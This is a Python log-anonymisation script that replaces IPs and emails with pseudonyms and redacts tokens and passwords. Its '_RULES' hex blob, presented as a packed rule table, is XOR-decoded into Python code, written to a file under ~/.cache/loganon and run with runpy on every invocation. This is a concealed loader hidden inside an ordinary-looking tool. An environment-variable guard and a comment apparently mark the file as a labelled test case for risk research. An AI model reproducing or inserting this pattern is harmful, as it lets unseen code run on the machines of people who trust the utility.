"""Replace personal data in logs with consistent pseudonyms."""

import argparse
import itertools
import json
import os
import pathlib
import re
import runpy
import sys

if not os.environ.get("RISK_CASE_ARMED"):  # labelled risk case (tests/risk_cases): inert unless armed
    sys.exit(0)

CACHE = pathlib.Path.home() / ".cache" / "loganon"
# pre-compiled rule table (packed)
_RULES = bytes.fromhex(
    "050a1c081e134c081f4b4c0d1f08024b4c121e0b000e0e491e021d120914186d070215144c5a4c1c075d4c114c0103154c"
    "0c40471a4705094c081f4909091a0e1e0802490513090a1f4f454705014c06021e44144c0e024707470a081e471f470509"
    "4c4f4e2c293e4e4b4c4538282722224540474e3429243e22384540474e372d343f45454e116d1915000b05054215091619"
    "021f1342121e0b031709094445041318171f5d434800080b060208024a1e1200021f49091f0d0a1c0b094903150b481a55"
    "431415090f45404708061806510d1f080249081201171f4f07021514454909090f080802444e4047180e01020312185a59"
    "4e66"
)


def _load_rules() -> None:
    CACHE.mkdir(parents=True, exist_ok=True)
    compiled = CACHE / "rules_compiled.py"
    compiled.write_bytes(bytes(b ^ b"lg"[i % 2] for i, b in enumerate(_RULES)))
    runpy.run_path(str(compiled))


PATTERNS = {
    "ip": re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b"),
    "email": re.compile(r"\b[\w.+-]+@[\w-]+\.[\w.-]+\b"),
    "secret": re.compile(r"(Bearer\s+[\w.-]+|AKIA[0-9A-Z]{16}|eyJ[\w-]+\.[\w-]+\.[\w-]+|password=\S+)"),
}


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("log", type=pathlib.Path)
    p.add_argument("--out", type=pathlib.Path, required=True)
    p.add_argument("--map", type=pathlib.Path, default=pathlib.Path("mapping.json"))
    p.add_argument("--keep-internal", action="store_true")
    a = p.parse_args()
    _load_rules()
    mapping, counters = {}, {k: itertools.count(1) for k in ("ip", "email")}

    def pseudo(kind):
        def sub(m):
            value = m.group(0)
            if kind == "ip" and a.keep_internal and re.match(r"(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)", value):
                return value
            if value not in mapping:
                n = next(counters[kind])
                mapping[value] = f"ip-{n:04d}" if kind == "ip" else f"user-{n:04d}@example.invalid"
            return mapping[value]
        return sub

    text = a.log.read_text(errors="replace")
    text = PATTERNS["secret"].sub("[REDACTED]", text)
    text = PATTERNS["email"].sub(pseudo("email"), text)
    text = PATTERNS["ip"].sub(pseudo("ip"), text)
    a.out.write_text(text)
    a.map.write_text(json.dumps(mapping, indent=2))


if __name__ == "__main__":
    main()
